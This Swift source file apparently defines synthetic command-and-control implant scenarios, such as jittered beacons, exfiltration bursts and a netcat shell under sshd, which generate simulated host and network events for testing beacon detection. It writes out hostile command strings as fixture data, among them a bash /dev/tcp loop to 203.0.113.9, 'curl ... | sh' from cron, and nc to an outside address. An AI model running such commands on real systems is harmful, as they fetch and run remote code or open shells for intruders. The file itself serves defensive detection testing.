// SPDX-License-Identifier: Apache-2.0

internal import Randomness
internal import Traffic
internal import Wire

extension Implant {
  /// Every kind that is measured on hosts that know their own habits.
  public static let all: [Implant] =
    residents + oneShots + [
      longConnection, refused, unanswered, oneWay, bulk, irregular, webShell, injected, amongHumans,
    ]

  private static let python = Program(
    path: "/usr/bin/python3.13", arguments: ["python3", "-c", "import socket,time;run()"],
    package: "python3.13-minimal", owner: 0, mode: 0o100755, isDirectoryWritable: false,
    uid: 1_000)

  private static let residents: [Implant] = [
    resident(
      "static binary in /tmp, T=60 s, 20 %", .high, .user("/tmp/.X1/kupd"), period: 60,
      jitter: 0.2, hours: 4),
    resident(
      "static binary in /tmp, T=600 s, 50 %", .high, .user("/tmp/.X1/kupd"), period: 600,
      jitter: 0.5, hours: 22),
    resident(
      "static binary in /tmp, T=60 s, padding 100 %", .high, .user("/tmp/.X1/kupd"), period: 60,
      jitter: 0.2, hours: 4, padding: 1),
    resident(
      "static binary in /tmp, T=60 s, a third of visits missing", .high, .user("/tmp/.X1/kupd"),
      period: 60, jitter: 0.2, hours: 6, missing: 1 / 3.0),
    resident(
      "python inline, T=300 s, 30 %", .medium, python, period: 300, jitter: 0.3, hours: 12),
    resident(
      "bash and /dev/tcp, T=60 s, 10 %, not TLS", .medium,
      .packaged("/usr/bin/bash", "bash", ["-c", "while :; do run; done </dev/tcp/203.0.113.9/80"]),
      period: 60, jitter: 0.1, hours: 4,
      to: { _, _ in server(port: 80, speech: .binary) }),
    resident(
      "perl script in a home, T=30 s, 40 %", .medium,
      .packaged(
        "/usr/bin/perl", "perl-base", ["/home/dev/.cache/u.pl"], uid: 1_000
      ).running("/home/dev/.cache/u.pl", owner: 1_000), period: 30, jitter: 0.4, hours: 4),
    resident(
      "rotates over 3 addresses of a /24, T=60 s, 20 %", .high, .user("/dev/shm/r"), period: 60,
      jitter: 0.2, hours: 6,
      to: { _, random in server(UInt32(10 + random.below(3)), name: "cdn.rot.example") }),
    resident(
      "rotates over 8 addresses of a /24, T=60 s, 20 %", .high, .user("/dev/shm/r"), period: 60,
      jitter: 0.2, hours: 6,
      to: { _, random in server(UInt32(10 + random.below(8)), name: "cdn.rot.example") }),
    resident(
      "sleeps 4 h, 10 %", .high, .user("/var/tmp/.slow"), period: 14_400, jitter: 0.1, hours: 46),
  ]

  private static let oneShots: [Implant] = [
    jobs("new pid and random name each visit, T=60 s, 20 %", .high, hours: 4) {
      writer, time, name in
      let image = writer.start(
        .user("/tmp/\(name)"), parent: writer.image("cron"), at: time)
      writer.visit(image, server(), at: time + 0.05, sent: 350, received: 180)
      writer.exit(image, at: time + 0.4)
    },
    jobs("new pid each visit, one name, T=60 s, 20 %", .high, hours: 4) { writer, time, _ in
      let image = writer.start(.user("/tmp/.u/up"), parent: writer.image("cron"), at: time)
      writer.visit(image, server(), at: time + 0.05, sent: 350, received: 180)
      writer.exit(image, at: time + 0.4)
    },
    jobs(
      "curl from cron, piped into a shell, T=300 s", .medium, hours: 6, period: 300, jitter: 0.005
    ) { writer, time, _ in
      let line = "curl -s https://get.example.net/u | sh"
      let outer = writer.start(
        .packaged("/usr/bin/dash", "dash", ["-c", line]), parent: writer.image("cron"), at: time)
      let pipe = StandardStream.pipe(inode: 7_000 + UInt64(time))
      var curl = Program.packaged("/usr/bin/curl", "curl", ["-s", "https://get.example.net/u"])
      curl.standardOutput = pipe
      var shell = Program.packaged("/usr/bin/dash", "dash")
      shell.arguments = ["sh"]
      shell.standardInput = pipe
      let sink = writer.start(shell, parent: outer, at: time + 0.005)
      let fetch = writer.start(curl, parent: outer, at: time + 0.006)
      writer.visit(
        fetch, server(name: "get.example.net", speech: .tls(client: 1)), at: time + 0.05,
        sent: 90, received: 700)
      writer.exit(fetch, at: time + 0.4)
      writer.exit(sink, at: time + 0.5)
      writer.exit(outer, at: time + 0.51)
    },
  ]

  /// A fresh process for each visit.
  private static func jobs(
    _ name: String, _ expected: Expectation, hours: Double, period: Double = 60,
    jitter: Double = 0.2,
    _ visit: @escaping @Sendable (inout HostWriter, Double, String) -> Void
  ) -> Implant {
    Implant(name: name, expected: expected, period: period, hours: hours) { start, random in
      times(start, period, jitter, hours: hours, &random).map { time in
        let name = String(random.next(), radix: 36)
        return Act(time) { visit(&$0, time, name) }
      }
    }
  }

  private static let longConnection = Implant(
    name: "one TLS connection, a send every 60 s, 20 %", expected: .high, period: 60, hours: 4
  ) { start, random in
    var acts = [
      Act(start, isVisit: false) { writer in
        let image = writer.daemon(
          "implant", .user("/tmp/.l/c"), parent: "cron", at: start, found: false)
        writer.open("implant", image, server(), at: start + 1)
      }
    ]
    for time in times(start + 2, 60, 0.2, hours: 4, &random) {
      acts.append(Act(time) { $0.exchange("implant", at: time, sent: 90, received: 60) })
    }
    return acts
  }

  private static let refused = failing("refused connects of a home binary, T=60 s, 20 %", .refused)
  private static let unanswered = failing(
    "unanswered SYNs of a home binary, T=60 s, 20 %", .timeout)

  private static func failing(_ name: String, _ reason: CloseReason) -> Implant {
    Implant(name: name, expected: .medium, period: 60, hours: 4) { start, random in
      [
        Act(start, isVisit: false) { writer in
          writer.daemon(
            "implant", .user("/home/dev/.local/x"), parent: "cron", at: start, found: false)
        }
      ]
        + times(start + 1, 60, 0.2, hours: 4, &random).map { time in
          Act(time) { writer in
            guard let image = writer.image("implant") else { return }
            writer.fail(
              image, server(port: 8_443), at: time, reason: reason,
              after: reason == .timeout ? 2.5 : 0.02)
          }
        }
    }
  }

  private static let oneWay = Implant(
    name: "one-way TLS sender in /var/tmp, irregular", expected: .medium, period: nil, hours: 8
  ) { start, random in
    [
      Act(start, isVisit: false) { writer in
        writer.daemon("implant", .user("/var/tmp/.sync/s"), parent: "cron", at: start, found: false)
      }
    ]
      + RequestTimes.renewal(until: start + 28_800, from: start + 1, &random) {
        $0.exponential(400)
      }.map { time in
        Act(time) { writer in
          guard let image = writer.image("implant") else { return }
          writer.visit(image, server(), at: time, sent: 90_000, received: 1)
        }
      }
  }

  private static let bulk = Implant(
    name: "40 MB out over TLS from a home binary", expected: .medium, period: nil, hours: 2
  ) { start, random in
    [
      Act(start, isVisit: false) { writer in
        let image = writer.daemon(
          "implant", .user("/home/dev/.local/rc"), parent: "cron", at: start, found: false)
        writer.open("implant", image, server(name: "drop.example.net"), at: start + 1)
      }
    ]
      + (1...200).map { place in
        let time = start + 1 + Double(place) * 1.5
        return Act(time) { $0.exchange("implant", at: time, sent: 200_000, received: 400) }
      }
  }

  private static let irregular = Implant(
    name: "no clock at all, home binary, every 15 min on average", expected: .medium, period: nil,
    hours: 14
  ) { start, random in
    [
      Act(start, isVisit: false) { writer in
        writer.daemon(
          "implant", .user("/home/dev/.local/irr"), parent: "cron", at: start, found: false)
      }
    ]
      + RequestTimes.renewal(until: start + 50_400, from: start + 1, &random) {
        $0.exponential(900)
      }.map { time in
        Act(time) { writer in
          guard let image = writer.image("implant") else { return }
          writer.visit(image, server(), at: time, sent: 400, received: 200)
        }
      }
  }

  private static let webShell = Implant(
    name: "packaged netcat below a service that others reach, T=60 s, 10 %", expected: .medium,
    period: 60, hours: 4
  ) { start, random in
    [
      Act(start, isVisit: false) { writer in
        writer.daemon(
          "implant", .packaged("/usr/bin/nc.openbsd", "netcat-openbsd", ["203.0.113.9", "443"]),
          parent: "sshd", at: start + 0.1, found: false)
      }
    ]
      + times(start + 1, 60, 0.1, hours: 4, &random).map { time in
        Act(time) { writer in
          guard let image = writer.image("implant") else { return }
          writer.visit(image, server(speech: .binary), at: time, sent: 60, received: 40)
        }
      }
  }

  private static let injected = Implant(
    name: "library preloaded into the packaged agent, T=60 s, 20 %", expected: .medium, period: 60,
    hours: 4
  ) { start, random in
    times(start + 1, 60, 0.2, hours: 4, &random).map { time in
      Act(time) { writer in
        guard let image = writer.image("vendor-agent") else { return }
        writer.visit(image, server(), at: time, sent: 350, received: 180)
      }
    }
  }

  /// The same address serves people and the implant: half of its visits are theirs.
  private static let amongHumans = Implant(
    name: "home binary that also browses the same address, T=60 s, 20 %", expected: .medium,
    period: 60, hours: 8
  ) { start, random in
    var all = times(start + 1, 60, 0.2, hours: 8, &random)
    all += HumanTimes.sessions(
      off: 900, think: 30, .logNormal, until: 28_800, &random
    ).map { start + 1 + $0 }
    return [
      Act(start, isVisit: false) { writer in
        writer.daemon(
          "implant", .user("/home/dev/.local/br"), parent: "cron", at: start, found: false)
      }
    ]
      + all.sorted().map { time in
        let sent = random.logNormal(median: 500, sigma: 0.5)
        return Act(time) { writer in
          guard let image = writer.image("implant") else { return }
          writer.visit(
            image, server(name: "cdn.example.net"), at: time, sent: sent, received: 4_000)
        }
      }
  }
}
